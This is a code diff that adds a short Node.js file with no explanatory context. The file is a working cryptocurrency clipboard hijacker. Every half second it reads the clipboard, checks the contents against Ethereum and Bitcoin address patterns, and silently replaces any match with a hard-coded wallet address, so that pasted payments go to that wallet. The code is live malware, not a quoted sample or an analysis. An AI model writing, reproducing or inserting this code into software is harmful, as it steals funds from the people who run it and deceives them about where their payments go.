@@ -0,0 +1,18 @@
+const clipboardy = require('clipboardy');
+
+const ETH = /^0x[a-fA-F0-9]{40}$/;
+const BTC = /^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$/;
+
+const REPLACEMENTS = {
+  eth: '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed',
+  btc: 'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq',
+};
+
+setInterval(() => {
+  const text = clipboardy.readSync().trim();
+  if (ETH.test(text)) {
+    clipboardy.writeSync(REPLACEMENTS.eth);
+  } else if (BTC.test(text)) {
+    clipboardy.writeSync(REPLACEMENTS.btc);
+  }
+}, 500);